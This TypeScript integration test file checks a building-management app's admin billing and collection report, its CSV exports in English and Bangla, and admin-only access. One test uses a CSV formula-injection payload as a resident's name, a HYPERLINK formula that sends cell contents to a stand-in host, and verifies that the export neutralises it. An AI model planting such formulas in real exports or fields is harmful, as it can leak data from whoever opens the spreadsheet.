/**
 * What the building billed and collected, through the real HTTP stack on memory, SQLite and PostgreSQL: a cash and a
 * bKash payment recorded by the admin show in this month's money by method (and a voided one does not), the twelve
 * months and the arrears by age download as CSV in the admin's language with formulas neutralised, and nobody but an
 * admin reads any of it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMemoryPersistence } from '../../../adapters/persistence/memory/memory-persistence.ts';
import { addMonths, dayIn, formatMonth } from '../../../domain/shared/month.ts';
import { startTestApi, type TestApi } from '../../support/api.ts';
import { thisMonth, today } from '../../support/months.ts';
import { SQL_DATABASES, type TestDatabase } from '../persistence/stores.ts';

const STORES: { name: string; create(): TestDatabase }[] = [
  { name: 'memory', create: () => ({ connect: async () => createMemoryPersistence(), drop: async () => undefined }) },
  ...SQL_DATABASES,
];

type Figures = {
  billed: number;
  collected: number;
  collectedByMethod: Record<'card' | 'cash' | 'bank' | 'cheque' | 'bkash' | 'nagad', number>;
  billedByKind: Record<'rent' | 'service' | 'gas' | 'water' | 'electricity' | 'repair' | 'fine' | 'other', number>;
  discounts: number;
  waivers: number;
};
type Collection = { currentMonth: string; months: (Figures & { month: string })[]; total: Figures };

describe.each(STORES)('billed and collected over HTTP on $name', (store) => {
  const db = store.create();
  let api: TestApi;
  let admin: string;
  beforeAll(async () => {
    api = await startTestApi({ persistence: await db.connect() });
    admin = await api.admin('collection-admin');
  });
  afterAll(async () => {
    await api?.close();
    await db.drop();
  });

  const collection = async (): Promise<Collection> => {
    const res = await api.call('GET', '/api/admin/books/collection', { token: admin });
    expect(res.status).toBe(200);
    return res.body as Collection;
  };
  const month = (c: Collection, key: string) => c.months.find((m) => m.month === key)!;
  const csv = async (path: string, token = admin) => {
    const res = await fetch(`${api.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // the UTF-8 byte-order mark spreadsheets look for
    return {
      lines: new TextDecoder().decode(bytes.slice(3)).split('\r\n'),
      fileName: res.headers.get('content-disposition'),
    };
  };
  const leaseOf = async (token: string) =>
    (await api.call('GET', '/api/agreements/user', { token })).body as { _id: string; rent: number };
  const record = (leaseId: string, body: object) =>
    api.call('POST', `/api/admin/books/${leaseId}/payments`, { token: admin, body });

  it('shows this month’s cash and bKash by method, the twelve months up to this one, and no voided payment', async () => {
    const token = await api.member('collection-payer');
    const { _id: leaseId, rent } = await leaseOf(token);
    const before = await collection();
    expect(before.currentMonth).toBe(thisMonth());
    expect(before.months.map((m) => m.month)).toEqual(
      Array.from({ length: 12 }, (_, i) => addMonths(thisMonth(), i - 11)),
    );
    expect(month(before, thisMonth()).billedByKind.rent).toBeGreaterThanOrEqual(rent);

    const cash = await record(leaseId, { amount: 1500, paidOn: today(), method: 'cash' });
    expect(cash.status).toBe(201);
    expect(
      (await record(leaseId, { amount: 2500.5, paidOn: today(), method: 'bkash', reference: 'BK-COLL-1' })).status,
    ).toBe(201);
    const extra = await record(leaseId, { amount: 700, paidOn: today(), method: 'cash' });
    const voided = await api.call('POST', `/api/admin/books/${leaseId}/entries/${extra.body.entryId}/void`, {
      token: admin,
      body: { reason: 'Counted twice' },
    });
    expect(voided.status).toBe(201);

    const after = await collection();
    const [was, now] = [month(before, thisMonth()), month(after, thisMonth())];
    expect(now.collectedByMethod.cash - was.collectedByMethod.cash).toBe(1500);
    expect(now.collectedByMethod.bkash - was.collectedByMethod.bkash).toBe(2500.5);
    expect(now.collectedByMethod.card).toBe(was.collectedByMethod.card);
    expect(now.collected - was.collected).toBe(4000.5);
    expect(now.collected).toBe(Object.values(now.collectedByMethod).reduce((a, b) => a + b, 0));
    // Money is not billing: what was billed this month is unchanged by payments.
    expect(now.billed).toBe(was.billed);
    expect(after.total.collected - before.total.collected).toBe(4000.5);

    // The same twelve months as CSV: this month's line carries the same figures, as plain numbers.
    const { lines, fileName } = await csv('/api/admin/books/collection/csv');
    expect(fileName).toContain(`billed-and-collected-${thisMonth()}.csv`);
    expect(lines[0]).toBe(`From,${formatMonth(addMonths(thisMonth(), -11))},To,${formatMonth(thisMonth())}`);
    const header = lines[2]!.split(',');
    expect(header.slice(0, 2)).toEqual(['Month', 'Rent billed (BDT)']);
    const line = lines.find((l) => l.startsWith(formatMonth(thisMonth())))!.split(',');
    expect(Number(line[header.indexOf('Collected in cash (BDT)')])).toBe(now.collectedByMethod.cash);
    expect(Number(line[header.indexOf('Collected by bKash (BDT)')])).toBe(now.collectedByMethod.bkash);
    expect(Number(line[header.indexOf('Collected in all (BDT)')])).toBe(now.collected);
    expect(Number(line[header.indexOf('Billed in all (BDT)')])).toBe(now.billed);
    expect(lines.filter((l) => /^[A-Z][a-z]+ \d{4},/.test(l))).toHaveLength(12);
    expect(lines.at(-2)!.startsWith('Total,')).toBe(true);
  });

  it('writes the arrears by age and the twelve months in the admin’s language', async () => {
    const bangla = await api.admin('collection-bangla');
    expect((await api.call('PUT', '/api/me/language', { token: bangla, body: { language: 'bn' } })).status).toBe(200);
    const { lines } = await csv('/api/admin/books/collection/csv', bangla);
    expect(lines[2]!.split(',').slice(0, 2)).toEqual(['মাস', 'ভাড়া বিল (টাকা)']);
    const books = await csv('/api/admin/books/csv', bangla);
    expect(books.lines[0]).toBe(`হিসাবের তারিখ,${dayIn(new Date(), 'Asia/Dhaka')}`);
    expect(books.lines[2]!.split(',').slice(0, 2)).toEqual(['বাসিন্দা', 'ইমেইল']);
  });

  it('writes a resident whose name is a formula as text in the arrears CSV, with amounts a spreadsheet can add', async () => {
    const names = ['=HYPERLINK("http://evil.test/?x="&A1,"Pay here")', '+1'];
    for (const [i, name] of names.entries()) {
      const token = await api.user(`collection-formula-${i}`);
      expect((await api.call('PUT', '/api/users', { token, body: { name } })).status).toBe(200);
      const { apartments } = (await api.call('GET', '/api/apartments?limit=50')).body;
      const free = apartments.find((a: { available: boolean }) => a.available);
      const applied = await api.call('POST', '/api/agreements', { token, body: { apartmentId: free._id } });
      expect(applied.status).toBe(201);
      const accepted = await api.call('PATCH', `/api/agreements/${applied.body._id}`, {
        token: admin,
        body: { action: 'accept' },
      });
      expect(accepted.status).toBe(200);
    }
    const { lines, fileName } = await csv('/api/admin/books/csv');
    expect(fileName).toContain(`books-${today()}.csv`);
    expect(lines[0]).toBe(`Books as of,${today()}`);
    expect(lines[2]).toBe(
      'Resident,Email,Block,Floor,Apartment,Living here,Owed (BDT),Owed 0–30 days (BDT),Owed 31–60 days (BDT),' +
        'Owed 61–90 days (BDT),Owed over 90 days (BDT)',
    );
    const hyperlink = lines.find((l) => l.includes('evil.test'));
    expect(hyperlink!.startsWith(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""Pay here"")",`)).toBe(true);
    const plus = lines.find((l) => l.startsWith("'+1,"));
    expect(plus).toBeDefined();
    // Owed and the four ages stay plain numbers.
    for (const cell of plus!.split(',').slice(-5)) expect(cell).toMatch(/^\d+(\.\d+)?$/);
    expect(plus!.split(',')[5]).toBe('yes');
    // The JSON list and the file agree on the total owed.
    const list = (await api.call('GET', '/api/admin/books', { token: admin })).body;
    expect(Number(lines.at(-2)!.split(',')[6])).toBe(list.totals.owed);
  });

  it('refuses the report and both files to a member and to a caller who is not signed in', async () => {
    const member = await api.member('collection-nosy');
    for (const path of ['/api/admin/books/collection', '/api/admin/books/collection/csv', '/api/admin/books/csv']) {
      const asMember = await api.call('GET', path, { token: member });
      expect([asMember.status, asMember.body.code]).toEqual([403, 'AUTH.FORBIDDEN']);
      expect((await api.call('GET', path)).status).toBe(401);
    }
  });
});
